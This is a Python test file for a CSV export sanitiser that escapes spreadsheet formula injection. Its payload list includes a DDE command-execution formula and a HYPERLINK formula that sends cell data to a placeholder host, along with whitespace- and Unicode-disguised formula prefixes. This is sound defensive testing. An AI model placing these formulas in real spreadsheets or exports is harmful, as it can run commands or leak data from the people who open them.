"""No cell of a table acts in a spreadsheet, whatever somebody wrote."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gehoor.kit.table import ACTS, csv_text, harmless

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1)',
    "+31612345678",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r\n=1",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_looks_like_a_formula_is_text(formula: str) -> None:
    assert harmless(formula).startswith("'")


@pytest.mark.parametrize("text", ["Fatima Bakker", "a=b", "2026-11-25 14:03:07", "", "é ß 😀"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_every_table_is_read_back_with_its_cells_and_none_acts(rows: list[list[str]]) -> None:
    text = csv_text(["a", "b", "c"], rows)

    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert [len(row) for row in read] == [3] * (len(rows) + 1)
    for cell in (cell for row in read for cell in row):
        first = unicodedata.normalize("NFKC", cell.lstrip())[:1]
        assert first not in ACTS


def test_nothing_is_nothing() -> None:
    assert harmless(None) == ""
